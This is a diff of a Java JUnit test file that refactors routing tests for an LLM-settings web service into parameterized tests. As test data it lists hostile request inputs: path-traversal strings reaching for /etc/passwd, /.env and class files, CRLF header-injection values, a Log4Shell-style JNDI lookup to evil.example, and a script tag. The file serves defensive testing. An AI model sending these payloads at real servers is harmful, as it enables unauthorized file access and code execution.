@@ -13,6 +13,7 @@ import io.carol.llm.testing.LogCapture;
 import io.carol.llm.testing.RawHttp;
 import io.carol.llm.testing.Reply;
 import io.carol.llm.testing.TestService;
+import io.carol.llm.testing.Words;
 import java.util.List;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.AutoClose;
@@ -20,6 +21,8 @@ import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.DynamicTest;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestFactory;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** Requests that lead nowhere, and what every answer has in common. */
 final class RoutingProblemsTest {
@@ -33,122 +36,59 @@ final class RoutingProblemsTest {
     service.as("user").put("{\"provider\":\"anthropic\",\"model\":\"m\"}");
   }
 
-  @TestFactory
-  Stream<DynamicTest> thereIsNothingAtAnyOtherPath() {
-    return each(
-        path -> {
-          for (String method : List.of("GET", "DELETE")) {
-            Reply reply = send(method, path);
-            assertProblem(404, "not_found", reply);
-          }
-          assertEquals(200, service.as("user").get().status(), "the settings are untouched");
-        },
-        "/api",
-        "/api/",
-        "/api/settings",
-        "/api/settings/llm/",
-        "/api/settings/llm/user",
-        "/api/settings/llm.json",
-        "/api/settings/llms",
-        "/api/settings/LLM",
-        "/API/settings/llm",
-        // One path has one spelling: a proxy that decides by the path must not be got around.
-        "//api/settings/llm",
-        "/api//settings/llm",
-        "/api/settings/llm//",
-        "/./api/settings/llm",
-        "/api/./settings/llm",
-        "/api/settings/llm/.",
-        "/api/settings/x/../llm",
-        "/x/../api/settings/llm",
-        "/../api/settings/llm",
-        "/api/%2e/settings/llm",
-        "/x/%2e%2e/api/settings/llm",
-        "/api%2fsettings/llm",
-        "/api%2Fsettings%2Fllm",
-        "/%61pi/settings/llm",
-        "/api/settings/ll%6d",
-        "/api/settings/llm;a=b",
-        "/api;a=b/settings/llm",
-        "/api/settings/llm%3Ba",
-        "/api/settings/llm%00",
-        "/api/settings/llm%0d%0aX-Injected:%20yes",
-        "/api/settings/llm%3Fa",
-        "/api/settings/llm%20",
-        "/api/settings/%C3%A9",
-        "/api/settings/\u00e9",
-        "http://localhost//api/settings/llm",
-        "http://localhost/api/settings/llm/",
-        "api/settings/llm",
-        "*",
-        "localhost",
-        "localhost:443",
-        "/observe/health/live",
-        "/observe/metrics",
-        "/openapi/",
-        "/openapi/ui",
-        "/openapi.yaml",
-        "/actuator",
-        "/.env",
-        "/../../etc/passwd");
+  /** One path has one spelling: a proxy that decides by the path must not be got around. */
+  @ParameterizedTest
+  @Words(
+      """
+      /api /api/ /api/settings /api/settings/llm/ /api/settings/llm/user /api/settings/llm.json
+      /api/settings/llms /api/settings/LLM /API/settings/llm //api/settings/llm
+      /api//settings/llm /api/settings/llm// /./api/settings/llm /api/./settings/llm
+      /api/settings/llm/. /api/settings/x/../llm /x/../api/settings/llm /../api/settings/llm
+      /api/%2e/settings/llm /x/%2e%2e/api/settings/llm /api%2fsettings/llm /api%2Fsettings%2Fllm
+      /%61pi/settings/llm /api/settings/ll%6d /api/settings/llm;a=b /api;a=b/settings/llm
+      /api/settings/llm%3Ba /api/settings/llm%00 /api/settings/llm%0d%0aX-Injected:%20yes
+      /api/settings/llm%3Fa /api/settings/llm%20 /api/settings/%C3%A9 /api/settings/\u00e9
+      http://localhost//api/settings/llm http://localhost/api/settings/llm/ api/settings/llm *
+      localhost localhost:443 /observe/health/live /observe/metrics /openapi/ /openapi/ui
+      /openapi.yaml /actuator /.env /../../etc/passwd
+      """)
+  void thereIsNothingAtAnyOtherPath(String path) {
+    for (String method : List.of("GET", "DELETE")) {
+      assertProblem(404, "not_found", send(method, path));
+    }
+    assertEquals(200, service.as("user").get().status(), "the settings are untouched");
   }
 
   /** All of them are on the class path, as the page's files are. */
-  @TestFactory
-  Stream<DynamicTest> filesThatAreNotThePagesAreNotServed() {
-    return each(
-        path -> {
-          try (RawHttp raw = new RawHttp(service.connect())) {
-            raw.send("GET " + path + " HTTP/1.1\r\nHost: a\r\nAccept: text/html, */*\r\n\r\n");
-            assertProblem(404, "not_found", raw.read());
-          }
-        },
-        "/META-INF/MANIFEST.MF",
-        "/io/carol/llm/Main.class",
-        "/sql/statements.yaml",
-        "/openapi/openapi.yaml",
-        "/web/index.html",
-        "/assets/openapi/openapi.yaml",
-        "/../openapi/openapi.yaml",
-        "/assets/../../openapi/openapi.yaml",
-        "/assets/..%2f..%2fopenapi/openapi.yaml",
-        "/assets/%2e%2e/%2e%2e/openapi/openapi.yaml",
-        "/%2e%2e/openapi/openapi.yaml",
-        "/..%5copenapi/openapi.yaml",
-        "/....//openapi/openapi.yaml",
-        "/..;/openapi/openapi.yaml",
-        "/.%00./openapi/openapi.yaml",
-        "/openapi/openapi.yaml%00.js",
-        "/openapi/openapi.yaml;.js",
-        "/openapi/openapi.yaml%3f.js",
-        "/assets/..",
-        "/assets/.",
-        "//openapi/openapi.yaml",
-        "http://localhost/../openapi/openapi.yaml");
+  @ParameterizedTest
+  @Words(
+      """
+      /META-INF/MANIFEST.MF /io/carol/llm/Main.class /sql/statements.yaml /openapi/openapi.yaml
+      /web/index.html /assets/openapi/openapi.yaml /../openapi/openapi.yaml
+      /assets/../../openapi/openapi.yaml /assets/..%2f..%2fopenapi/openapi.yaml
+      /assets/%2e%2e/%2e%2e/openapi/openapi.yaml /%2e%2e/openapi/openapi.yaml
+      /..%5copenapi/openapi.yaml /....//openapi/openapi.yaml /..;/openapi/openapi.yaml
+      /.%00./openapi/openapi.yaml /openapi/openapi.yaml%00.js /openapi/openapi.yaml;.js
+      /openapi/openapi.yaml%3f.js /assets/.. /assets/. //openapi/openapi.yaml
+      http://localhost/../openapi/openapi.yaml
+      """)
+  void filesThatAreNotThePagesAreNotServed(String path) {
+    try (RawHttp raw = new RawHttp(service.connect())) {
+      raw.send("GET " + path + " HTTP/1.1\r\nHost: a\r\nAccept: text/html, */*\r\n\r\n");
+      assertProblem(404, "not_found", raw.read());
+    }
   }
 
-  @TestFactory
-  Stream<DynamicTest> everyOtherMethodIsRefused() {
-    return each(
-        method -> {
-          Reply reply = send(method, Api.PATH);
-          assertProblem(405, "method_not_allowed", reply);
-          assertEquals("GET, HEAD, PUT, DELETE", reply.header("allow"));
-          Api.CONTRACT.check(method, Api.PATH, reply.status(), reply.headers(), reply.body());
-          reply = send(method, "/openapi");
-          assertProblem(405, "method_not_allowed", reply);
-          assertEquals("GET, HEAD", reply.header("allow"));
-        },
-        "POST",
-        "PATCH",
-        "OPTIONS",
-        "TRACE",
-        "CONNECT",
-        "PROPFIND",
-        "QUERY",
-        "FOO",
-        "M".repeat(200),
-        "!#$%&'*+-.^_`|~09AZ");
+  @ParameterizedTest
+  @Words("POST PATCH OPTIONS TRACE CONNECT PROPFIND QUERY FOO !#$%&'*+-.^_`|~09AZ")
+  void everyOtherMethodIsRefused(String method) {
+    Reply reply = send(method, Api.PATH);
+    assertProblem(405, "method_not_allowed", reply);
+    assertEquals("GET, HEAD, PUT, DELETE", reply.header("allow"));
+    Api.CONTRACT.check(method, Api.PATH, reply.status(), reply.headers(), reply.body());
+    reply = send(method, "/openapi");
+    assertProblem(405, "method_not_allowed", reply);
+    assertEquals("GET, HEAD", reply.header("allow"));
   }
 
   @TestFactory
@@ -205,31 +145,21 @@ final class RoutingProblemsTest {
     }
   }
 
-  @TestFactory
-  Stream<DynamicTest> aRequestIdThatCouldDoHarmIsNotTakenOver() {
-    return each(
-        id -> {
-          try (RawHttp raw = new RawHttp(service.connect())) {
-            raw.send("GET /nowhere HTTP/1.1\r\nHost: a\r\nX-Request-Id: " + id + "\r\n\r\n");
-            Reply reply = raw.read();
-            assertProblem(404, "not_found", reply);
-            assertTrue(
-                reply.header("x-request-id").matches("[0-9a-f]{16}"),
-                () -> reply.header("x-request-id"));
-          }
-        },
-        "",
-        "x".repeat(65),
-        "a b",
-        "a,b",
-        "a\tb",
-        "<script>",
-        "\"quoted\"",
-        "a/../b",
-        "a=b",
-        "${jndi:ldap://evil.example/a}",
-        "\u00e9",
-        "%0d%0aSet-Cookie:%20a=b");
+  @ParameterizedTest
+  @Words(
+      """
+      a,b <script> "quoted" a/../b a=b ${jndi:ldap://evil.example/a} \u00e9
+      %0d%0aSet-Cookie:%20a=b
+      xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
+      """)
+  @ValueSource(strings = {"", "a b", "a\tb"})
+  void aRequestIdThatCouldDoHarmIsNotTakenOver(String id) {
+    try (RawHttp raw = new RawHttp(service.connect())) {
+      raw.send("GET /nowhere HTTP/1.1\r\nHost: a\r\nX-Request-Id: " + id + "\r\n\r\n");
+      Reply reply = raw.read();
+      assertProblem(404, "not_found", reply);
+      assertTrue(reply.header("x-request-id").matches("[0-9a-f]{16}"), reply::toString);
+    }
   }
 
   @Test
